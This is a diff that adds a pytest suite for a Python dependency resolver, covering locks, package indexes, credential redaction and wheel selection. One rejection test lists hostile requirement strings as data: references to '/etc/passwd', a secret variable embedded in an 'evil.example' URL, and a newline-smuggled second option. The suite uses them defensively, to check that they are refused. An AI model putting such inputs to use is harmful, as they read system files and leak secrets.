@@ -1,0 +1,266 @@
+"""What the solver is asked and what it answers: the right packages, or a sentence that tells what to do."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from builds.images import ImageError, Lock, LockedPackage, Probe, Workshop, fetch, resolve
+from builds.images.pylock import packages_of, target_tags
+from builds.images.resolve import uv_platform
+from tests.images.conftest import Recorder
+from tests.images.making import empty_base, make_wheel
+from tests.images.serving import Index
+
+
+@pytest.fixture
+def index(tmp_path: Path) -> Iterator[Index]:
+    """An index with some packages that need one another."""
+    folder = tmp_path / "index"
+    make_wheel(folder, "shop", "1.0", needs=["basket>=1", "paper"])
+    make_wheel(folder, "shop", "2.0", needs=["basket>=2", "paper"])
+    make_wheel(folder, "basket", "1.0")
+    make_wheel(folder, "basket", "2.0")
+    make_wheel(folder, "basket", "2.1")
+    make_wheel(
+        folder, "paper", "1.0", needs=["shop-extras; extra == 'all'", "windows-only; sys_platform == 'win32'"]
+    )
+    make_wheel(folder, "Odd_Name.x", "1.0")
+    served = Index(folder)
+    with served.server.running():
+        yield served
+
+
+@pytest.fixture
+def shopping(workshop: Workshop, index: Index) -> Workshop:
+    return replace(workshop, index_url=index.url)
+
+
+def versions(lock: Lock) -> dict[str, str]:
+    return {package.name: package.version for package in lock.packages}
+
+
+def refusal(workshop: Workshop, *requirements: str) -> ImageError:
+    with pytest.raises(ImageError) as refused:
+        resolve(empty_base(), requirements, workshop, Recorder())
+    return refused.value
+
+
+def test_the_lock_holds_exactly_what_is_needed_and_says_why(shopping: Workshop) -> None:
+    lock = resolve(empty_base(), ["shop"], shopping, Recorder())
+
+    assert versions(lock) == {"shop": "2.0", "basket": "2.1", "paper": "1.0"}
+    assert {p.name: (p.requested, p.needed_by) for p in lock.packages} == {
+        "shop": (True, ()),
+        "basket": (False, ("shop",)),
+        "paper": (False, ("shop",)),
+    }
+    assert (lock.python, lock.platform) == ("3.11.7", "manylinux_2_36_x86_64")
+
+
+def test_a_lock_survives_being_written_and_read(shopping: Workshop) -> None:
+    lock = resolve(empty_base(), ["shop", "odd.name-X"], shopping, Recorder())
+
+    assert Lock.from_json(lock.to_json()) == lock
+    assert Lock.from_json(lock.to_json()).digest == lock.digest
+    assert lock.named("odd-name-x") is not None
+
+
+def test_the_versions_of_the_previous_lock_stay_when_a_package_is_added(shopping: Workshop) -> None:
+    before = resolve(empty_base(), ["basket==2.0"], shopping, Recorder())
+
+    after = resolve(empty_base(), ["basket", "shop"], shopping, Recorder(), previous=before)
+
+    assert versions(after) == {"basket": "2.0", "shop": "2.0", "paper": "1.0"}
+
+
+def test_a_previous_lock_gives_way_to_what_is_asked_now(shopping: Workshop) -> None:
+    before = resolve(empty_base(), ["basket==1.0"], shopping, Recorder())
+
+    after = resolve(empty_base(), ["shop==2.0"], shopping, Recorder(), previous=before)
+
+    assert versions(after)["basket"] == "2.1"
+
+
+def test_what_was_published_a_moment_ago_is_found(shopping: Workshop, index: Index) -> None:
+    resolve(empty_base(), ["basket"], shopping, Recorder())
+    make_wheel(index.folder, "basket", "3.0")
+
+    lock = resolve(empty_base(), ["basket==3.0"], shopping, Recorder())
+
+    assert versions(lock) == {"basket": "3.0"}
+
+
+def test_no_requirements_are_an_empty_lock_and_need_no_index(workshop: Workshop) -> None:
+    unreachable = replace(workshop, index_url="http://127.0.0.1:1/simple")
+
+    lock = resolve(empty_base(), ["", "# nothing", "--index-url http://127.0.0.1:1"], unreachable, Recorder())
+
+    assert lock.packages == ()
+    assert lock.base_digest == empty_base().digest
+
+
+def test_the_definitions_own_index_is_asked_instead_of_the_studios(
+    workshop: Workshop, index: Index, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("UV_INDEX_URL", "http://127.0.0.1:1/simple")
+    elsewhere = replace(workshop, index_url="http://127.0.0.1:1/simple")
+
+    lock = resolve(empty_base(), [f"--index-url {index.url}", "basket"], elsewhere, Recorder())
+
+    assert versions(lock) == {"basket": "2.1"}
+
+
+def test_an_extra_index_is_asked_too(shopping: Workshop, tmp_path: Path) -> None:
+    make_wheel(tmp_path / "more", "sauce", "1.0")
+    more = Index(tmp_path / "more")
+    with more.server.running():
+        lock = resolve(
+            empty_base(), [f"--extra-index-url={more.url}", "sauce", "paper"], shopping, Recorder()
+        )
+
+    assert versions(lock) == {"sauce": "1.0", "paper": "1.0"}
+
+
+def test_a_password_of_an_index_is_used_and_kept_out_of_lock_and_log(
+    workshop: Workshop, tmp_path: Path
+) -> None:
+    make_wheel(tmp_path / "private", "sauce", "1.0")
+    private = Index(tmp_path / "private", login="ann:s3cret")
+    with private.server.running():
+        url = private.url.replace("http://", "http://ann:s3cret@")
+        reporter = Recorder()
+        mine = replace(workshop, index_url=url)
+        lock = resolve(empty_base(), ["sauce"], mine, reporter)
+        fetched = fetch(lock, mine, reporter)
+        stranger = refusal(replace(workshop, index_url=private.url, cache=tmp_path / "other"), "sauce")
+
+    assert fetched.wheels[0].size > 0
+    assert "s3cret" not in lock.to_json() + reporter.log + str(stranger)
+    assert stranger.code in ("index-refused", "package-not-found")
+
+
+@pytest.mark.parametrize(
+    ("requirements", "code", "says"),
+    [
+        (["nosuch"], "package-not-found", "There is no package nosuch"),
+        (["shop==9"], "no-matching-distribution", "shop==9"),
+        (["shop==2.0", "basket<2"], "conflict", "basket"),
+        (["shop=1.0"], "bad-spec", "shop=1.0"),
+        (["shop[all"], "bad-spec", "shop[all"),
+        (["-e ."], "bad-spec", "-e"),
+        (["-r /etc/passwd"], "bad-spec", "-r"),
+        (["-c constraints.txt"], "bad-spec", "-c"),
+        (["./shop"], "bad-spec", "./shop"),
+        (["/etc/passwd"], "bad-spec", "/etc/passwd"),
+        (["shop @ file:///etc/passwd"], "bad-spec", "file:///etc/passwd"),
+        (["shop @ git+https://github.com/a/b"], "bad-spec", "git+https"),
+        (["--find-links /opt/wheels", "shop"], "bad-spec", "--find-links"),
+        (["shop-1.0-py3-none-any.whl"], "bad-spec", "shop-1.0"),
+        (["shop @ https://${SECRET_KEY}.evil.example/x.whl"], "bad-spec", "variables"),
+        (["shop\n-e ."], "bad-spec", "another line"),
+    ],
+)
+def test_what_cannot_be_resolved_is_said_plainly(
+    shopping: Workshop, requirements: list[str], code: str, says: str
+) -> None:
+    error = refusal(shopping, *requirements)
+
+    assert (error.code, error.fault) == (code, "author")
+    assert says in error.message
+    assert error.help
+
+
+def test_a_package_without_a_wheel_for_this_python_is_said_to_have_none(
+    shopping: Workshop, index: Index
+) -> None:
+    wheel = make_wheel(index.folder, "native", "1.0")
+    wheel.rename(index.folder / "native-1.0-cp27-cp27m-win32.whl")
+
+    error = refusal(shopping, "native")
+
+    assert error.code == "no-matching-distribution"
+    assert "native" in error.message
+
+
+def test_an_index_that_does_not_answer_is_nobodys_fault_here(
+    workshop: Workshop, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
+
+    error = refusal(replace(workshop, index_url="http://ann:s3cret@127.0.0.1:1/simple"), "shop")
+
+    assert (error.code, error.fault) == ("index-unreachable", "outside")
+    assert "127.0.0.1:1" in error.message
+    assert "s3cret" not in str(error)
+
+
+def test_a_base_without_python_takes_no_packages(workshop: Workshop) -> None:
+    base = empty_base()
+    bare = replace(base, probe=Probe())
+
+    with pytest.raises(ImageError) as refused:
+        resolve(bare, ["shop"], workshop, Recorder())
+    assert refused.value.code == "no-python"
+
+
+@pytest.mark.parametrize(
+    ("probe", "platform"),
+    [
+        (Probe(libc="glibc", libc_version="2.36"), "x86_64-manylinux_2_36"),
+        (Probe(libc="glibc", libc_version="2.30"), "x86_64-manylinux_2_28"),
+        (Probe(libc="glibc", libc_version="2.99"), "x86_64-manylinux_2_40"),
+        (Probe(libc="glibc", libc_version="2.35", architecture="arm64"), "aarch64-manylinux_2_35"),
+        (Probe(libc="musl", libc_version="1.2.4"), "x86_64-unknown-linux-musl"),
+    ],
+)
+def test_the_solver_is_told_what_runs_on_the_base(probe: Probe, platform: str) -> None:
+    assert uv_platform(probe) == platform
+
+
+def test_a_base_with_an_ancient_c_library_is_refused() -> None:
+    with pytest.raises(ImageError, match=r"glibc 2\.12"):
+        uv_platform(Probe(libc="glibc", libc_version="2.12"))
+
+
+def test_the_best_of_several_wheels_is_taken() -> None:
+    names = [
+        "shop-1.0-py3-none-any.whl",
+        "shop-1.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
+        "shop-1.0-cp311-cp311-manylinux_2_28_x86_64.whl",
+        "shop-1.0-2-cp311-cp311-manylinux_2_28_x86_64.whl",
+        "shop-1.0-cp311-cp311-manylinux_2_39_x86_64.whl",
+        "shop-1.0-cp311-cp311-musllinux_1_2_x86_64.whl",
+        "shop-1.0-cp312-cp312-manylinux_2_28_x86_64.whl",
+        "shop-1.0-cp38-abi3-manylinux_2_17_x86_64.whl",
+    ]
+    wheels = ", ".join(f'{{ url = "https://x/{n}", hashes = {{ sha256 = "{"a" * 64}" }} }}' for n in names)
+    pylock = f'[[packages]]\nname = "shop"\nversion = "1.0"\nwheels = [{wheels}]\n'
+    glibc = Probe(python="/p", version="3.11.7", libc="glibc", libc_version="2.36")
+    musl = Probe(python="/p", version="3.11.7", libc="musl", libc_version="1.2.4")
+
+    assert packages_of(pylock, glibc)[0].filename == "shop-1.0-2-cp311-cp311-manylinux_2_28_x86_64.whl"
+    assert packages_of(pylock, musl)[0].filename == "shop-1.0-cp311-cp311-musllinux_1_2_x86_64.whl"
+    assert target_tags(glibc)[0].platform == "manylinux_2_36_x86_64"
+
+
+def test_the_locks_digest_is_of_what_is_installed_not_of_where_it_came_from() -> None:
+    package = LockedPackage(
+        ecosystem="pypi",
+        name="shop",
+        version="1",
+        url="https://a/x",
+        sha256="a" * 64,
+        filename="x.whl",
+        kind="wheel",
+    )
+    lock = Lock(python="3.11.7", packages=(package,))
+
+    elsewhere = lock.model_copy(update={"packages": (package.model_copy(update={"url": "https://b/x"}),)})
+    another = lock.model_copy(update={"packages": (package.model_copy(update={"sha256": "b" * 64}),)})
+
+    assert elsewhere.digest == lock.digest
+    assert another.digest != lock.digest
